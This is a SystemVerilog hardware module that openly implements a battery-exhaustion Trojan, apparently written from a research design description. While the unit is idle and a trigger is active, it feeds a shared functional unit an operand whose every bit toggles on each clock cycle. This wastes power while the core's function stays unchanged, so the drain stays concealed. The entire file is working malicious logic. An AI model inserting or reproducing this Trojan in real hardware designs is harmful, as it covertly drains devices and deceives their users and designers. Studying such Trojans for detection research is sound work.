// fu_exhaust_mux: operand multiplexer placed in front of one input of a shared functional
// unit to waste dynamic power (battery-exhaustion Trojan).
//
// In states where the controller uses the unit, or while the Trojan is inactive, the unit
// sees the real operand `val`. In states where the unit is idle and the Trojan is active, the
// unit instead sees `fake_q`, an extra register that reloads the bitwise complement of the
// operand the unit currently sees on every clock. Each idle cycle therefore flips every input
// bit of the unit, the highest switching activity a combinational unit can have. The result of
// such a fake operation is never written to a register, so the function of the core is
// unchanged. The bit-flipping register in front of the unit and the select
// `in = sel ? ~val : val` follow the design description; reloading the register every cycle,
// which keeps the toggling going over several idle cycles in a row, is this implementation's
// reading of it.
//
// Timing: `fu_in` is combinational from `val`, `idle` and `trojan`; `fake_q` updates on
// every rising clock edge. Reset is active-low, synchronous.
module fu_exhaust_mux #(
  parameter int unsigned WIDTH = 32
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic [WIDTH-1:0] val,     // real operand from the datapath
  input  logic             idle,    // controller: unit unused in the current state
  input  logic             trojan,  // Trojan activation
  output logic [WIDTH-1:0] fu_in    // operand delivered to the functional unit
);

  logic [WIDTH-1:0] fake_q;
  logic             sel;

  assign sel   = idle & trojan;
  assign fu_in = sel ? fake_q : val;

  always_ff @(posedge clk) begin
    if (!rst_n) fake_q <= '0;
    else        fake_q <= ~fu_in;
  end

endmodule
